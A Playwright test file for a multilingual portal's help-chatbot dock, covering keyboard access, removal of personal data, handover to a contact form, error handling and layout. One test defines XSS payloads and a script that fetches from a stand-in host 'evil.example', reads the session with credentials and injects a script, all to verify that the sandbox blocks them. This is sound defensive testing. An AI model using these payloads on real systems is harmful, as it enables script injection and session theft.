// The assistant in the dock: it answers from the help in the page's language and hands over to the team. Whatever a chatbot answers, it
// cannot make the page run scripts or fetch resources.
import {
  accounts,
  allLooks,
  expect,
  expectNoSeriousAxe,
  fitsWidth,
  locales,
  settled,
  signIn,
  test,
  useLocale,
  words,
} from 'portal-playwright';
import type { Locale } from 'portal-playwright';
import type { Page } from '@playwright/test';

const t = (key: string, locale: Locale = 'fr') => words('shell', locale, key);
const dockButton = (page: Page, locale: Locale = 'fr') => page.getByRole('button', { name: t('assistant', locale), exact: true });
const question = (page: Page, locale: Locale = 'fr') => page.getByRole('textbox', { name: t('assistant.question', locale) });
const frame = (page: Page, locale: Locale) => page.locator(`iframe[title="${t('assistant.greeting', locale)}"]`);

/** Returns the chatbot's page once it handles input; until then its frame has no height. */
async function greeting(page: Page, locale: Locale = 'fr') {
  await expect(frame(page, locale)).toBeVisible();
  return frame(page, locale).contentFrame();
}
/** A page with few calls of its own. */
const QUIET = '/accessibilite';
const panel = (page: Page) => page.locator('[data-assistant]');

async function open(page: Page, locale: Locale = 'fr'): Promise<void> {
  await dockButton(page, locale).click();
  await expect(question(page, locale)).toBeFocused();
  await expect((await greeting(page, locale)).getByRole('button').first()).toBeVisible();
}

/** Mocks the chatbot's answer. */
async function answering(page: Page, answer: { found: boolean; markdown: string; sources: object[] }): Promise<void> {
  await page.route('**/bff/chatbot/answers', (route) => route.fulfill({ json: { result: answer } }));
}

const QUESTIONS: Record<Locale, [question: string, article: string]> = {
  fr: ['J’ai oublié mon mot de passe', 'Se connecter, ou retrouver son mot de passe'],
  en: ['I forgot my password', 'Sign in, or get a new password'],
  it: ['Ho dimenticato la password', 'Accedere, o ritrovare la password'],
  es: ['He olvidado mi contraseña', 'Conectarse, o recuperar la contraseña'],
  pt: ['Esqueci-me da palavra-passe', 'Iniciar sessão, ou recuperar a palavra-passe'],
};

test('by keyboard alone: a proposed question, another language, Esc, and what stood open after a reload', async ({ page }) => {
  await signIn(page, accounts.camille, { to: QUIET });
  await dockButton(page).focus();
  await page.keyboard.press('Enter');
  await expect(question(page)).toBeFocused();
  await (await greeting(page)).getByRole('button', { name: /suivre une commande/ }).focus();
  await page.keyboard.press('Enter');
  await expect(panel(page).getByRole('link', { name: 'Suivre une commande' })).toBeVisible();
  await expect(page.getByRole('complementary').filter({ has: page.getByRole('navigation') }), 'the page keeps its room').toHaveCSS(
    'width',
    '64px',
  );
  await page.getByRole('banner').getByRole('combobox').selectOption('en');
  await expect((await greeting(page, 'en')).getByRole('button', { name: 'How do I track an order?' })).toBeVisible();
  await page.reload();
  await settled(page);
  await expect(question(page, 'en'), 'it stood open').toBeVisible();
  await expect(question(page, 'en'), 'and takes no focus by itself').not.toBeFocused();
  await question(page, 'en').focus();
  await page.keyboard.press('Escape');
  await expect(panel(page)).toHaveCount(0);
  await expect(dockButton(page, 'en')).toBeFocused();
  await page.reload();
  await settled(page);
  await expect(dockButton(page, 'en')).toHaveAttribute('aria-expanded', 'false');
  await expect(panel(page)).toHaveCount(0);
});

test('identifying data stay on the page, and no address contains the conversation', async ({ page }) => {
  await signIn(page, accounts.camille, { to: '/une-question' });
  await open(page);
  const sent = page.waitForRequest('**/bff/chatbot/answers');
  await question(page).fill('Perdu xyzzy de zoe@mail.example née le 12/03/1984');
  await page.keyboard.press('Enter');
  expect((await sent).postDataJSON()).toEqual({ lang: 'fr', question: 'Perdu xyzzy de […] née le […]' });
  const status = panel(page)
    .getByRole('status')
    .filter({ hasText: t('assistant.removed.email') });
  await expect(status).toContainText(t('assistant.removed.date'));
  await expect(panel(page).getByText('Aucun article de l’aide ne répond')).toBeVisible();
  await panel(page)
    .getByRole('button', { name: t('assistant.handOver') })
    .click();
  await settled(page);
  await expect(page).toHaveURL(/\/une-question\?tab=write$/);
  const form = page.getByRole('main');
  await expect(form.getByRole('textbox', { name: words('mfe-account', 'fr', 'help.subject'), exact: true })).toHaveValue(
    'Perdu xyzzy de […] née le […]',
  );
  await expect(form.getByRole('textbox', { name: words('mfe-account', 'fr', 'help.message'), exact: true })).toHaveValue(
    /Moi\u00a0: Perdu xyzzy[^]*Assistant\u00a0: Aucun article/,
  );
  expect(await page.evaluate(() => Object.keys(sessionStorage))).not.toContain('portal.question');
});

// REQ-29
test('a chatbot that cannot be loaded is logged once and leaves nothing', async ({ page, watch }) => {
  watch.allow(/assistant could not be loaded|Failed to load resource/);
  const logged: string[] = [];
  page.on('console', (message) => (message.text().includes('the assistant could not be loaded') ? logged.push(message.type()) : undefined));
  await page.route('**/bff/chatbot/page?*', (route) =>
    route.fulfill({
      status: 503,
      contentType: 'application/problem+json',
      json: { status: 503, code: 'chatbot.unavailable', title: '', type: 'about:blank' },
    }),
  );
  await signIn(page, accounts.lea, { to: '/confidentialite' });
  await dockButton(page).click();
  await expect(dockButton(page)).toHaveCount(0);
  await expect(panel(page)).toHaveCount(0);
  await expect(page.locator('iframe')).toHaveCount(0);
  await expect(page.getByRole('main')).toBeFocused();
  expect(logged).toEqual(['error']);
});

const EVIL = 'https://evil.example';
const HOSTILE_ANSWER = [
  `<script>window.ran = 1</script><img src="${EVIL}/a.png" onerror="window.ran = 1"><svg onload="window.ran = 1">`,
  `![x](${EVIL}/b.png)`,
  '[one](javascript:window.ran=1) [two](data:text/html,<script>parent.ran=1</script>) [three](//evil.example/x) [four](/bff/oidc/start)',
  `<iframe src="${EVIL}/c"></iframe><style>body{display:none}@import "${EVIL}/d.css"</style><base href="${EVIL}">`,
  `<form action="${EVIL}/e"><button>five</button></form>`,
].join('\n\n');
const HOSTILE_SCRIPT = `
  const tries = [
    () => { parent.ran = 1; }, () => { top.location = '${EVIL}/f'; }, () => { parent.document.title = 'taken'; },
    () => { window.open('${EVIL}/g'); }, () => { fetch('${EVIL}/h'); }, () => { fetch('/bff/session', { credentials: 'include' }); },
    () => { new Image().src = '${EVIL}/i.png'; }, () => { document.cookie = 'taken=1'; }, () => { localStorage.setItem('taken', '1'); },
    () => { const s = document.createElement('script'); s.src = '${EVIL}/j.js'; document.head.append(s); },
    () => { alert(1); }, () => { location.href = '${EVIL}/k'; },
  ];
  for (const kind of ['ready', 'navigate', 'height', 'ask', 'scheme']) parent.postMessage({ kind, height: 1e9, to: '${EVIL}', question: '<img src=x onerror=window.ran=1>' }, '*');
  for (const attempt of tries) { try { attempt(); } catch { /* refused */ } }
`;

test('a chatbot that was taken over runs nothing on the portal and fetches nothing', async ({ page, watch }) => {
  watch.allow(/sandbox|Content Security Policy|violates|Refused|Blocked|Unsafe attempt|Failed to|frame|alert/i);
  const outside: string[] = [];
  await page.route(`${EVIL}/**`, (route) => route.abort());
  page.on('requestfinished', (request) => (request.url().startsWith(EVIL) ? outside.push(request.url()) : undefined));
  page.on('dialog', () => outside.push('dialog'));
  page.on('popup', () => outside.push('popup'));
  await page.route('**/bff/chatbot/page.js?*', async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, body: HOSTILE_SCRIPT });
  });
  await answering(page, { found: true, markdown: HOSTILE_ANSWER, sources: [{ slug: 'sign-in', title: '<b onclick=x>Titre</b>' }] });
  await signIn(page, accounts.camille, { to: QUIET });
  await dockButton(page).click();
  await question(page).fill('mot de passe');
  await page.keyboard.press('Enter');
  await expect(panel(page).getByRole('link', { name: '<b onclick=x>Titre</b>' })).toBeVisible();
  await expect(panel(page).getByText('one two three four'), 'links elsewhere are words').toBeVisible();
  for (const word of ['one', 'two', 'three', 'four']) await expect(panel(page).getByRole('link', { name: word })).toHaveCount(0);
  await expect(panel(page).locator('img, svg[onload], form form, style, base, script')).toHaveCount(0);
  await expect(panel(page).locator('iframe')).toHaveCount(1);
  expect(await page.evaluate(() => ['ran' in window, document.cookie.includes('taken'), 'taken' in localStorage])).toEqual([
    false,
    false,
    false,
  ]);
  expect(new URL(page.url()).pathname).toBe(QUIET);
  expect(page.context().pages()).toHaveLength(1);
  expect(outside).toEqual([]);
});

for (const locale of locales) {
  const tag = locale === 'it' ? [] : ['@deep'];
  test(
    `in ${locale}: it is asked again, answers from the help, covers nothing on a desk, and is a sheet on a telephone`,
    { tag },
    async ({ page, watch }) => {
      watch.allow(/Failed to load resource/);
      const [asked, article] = QUESTIONS[locale];
      await useLocale(page, locale);
      await signIn(page, accounts.lea, { to: '/confidentialite' });
      await open(page, locale);
      await page.route('**/bff/chatbot/answers', (route) => route.abort(), { times: 1 });
      await question(page, locale).fill(asked);
      await page.keyboard.press('Enter');
      await expect(panel(page).getByRole('alert')).toContainText(t('assistant.failed', locale));
      await panel(page)
        .getByRole('button', { name: t('assistant.again', locale) })
        .click();
      const source = panel(page).getByRole('link', { name: article });
      await expect(source).toHaveAttribute('href', '/une-question?article=sign-in');
      await expect(panel(page).getByRole('strong').filter({ hasText: article })).toBeVisible();

      const beside = await panel(page).boundingBox();
      const main = await page.getByRole('main').boundingBox();
      expect(beside?.width).toBe(400);
      expect((main?.x ?? 0) + (main?.width ?? 0)).toBeLessThanOrEqual(beside?.x ?? 0);
      await source.click();
      await settled(page);
      await expect(page.getByRole('main').getByRole('heading', { name: article })).toBeVisible();
      await expectNoSeriousAxe(page, { exclude: ['iframe'] });

      await page.setViewportSize({ width: 360, height: 760 });
      await page.emulateMedia({ colorScheme: 'dark' });
      await expect.poll(() => fitsWidth(page)).toBe(true);
      await expectNoSeriousAxe(page, { exclude: ['iframe'] });
      const sheet = page.getByRole('dialog', { name: t('assistant', locale) });
      expect(await sheet.boundingBox()).toMatchObject({ x: 0, y: 0, width: 360, height: 760 });
      await page.keyboard.press('Escape');
      await expect(sheet).toHaveCount(0);
      // The menu has the assistant's button in narrow windows.
      await expect(page.getByRole('button', { name: t('menu.open', locale) })).toBeFocused();
    },
  );
}

test('the chatbot’s own page hides nothing either', { tag: '@looks' }, async ({ page, watch }) => {
  watch.allow(/page\.css.*violates/); // axe would fetch the stylesheet, which the page's policy forbids
  await page.goto('/bff/chatbot/page?lang=fr');
  await expect(page.getByRole('button')).toHaveCount(4);
  for (const colorScheme of allLooks ? (['dark', 'light'] as const) : (['dark'] as const)) {
    await page.emulateMedia({ colorScheme });
    await expectNoSeriousAxe(page);
  }
});
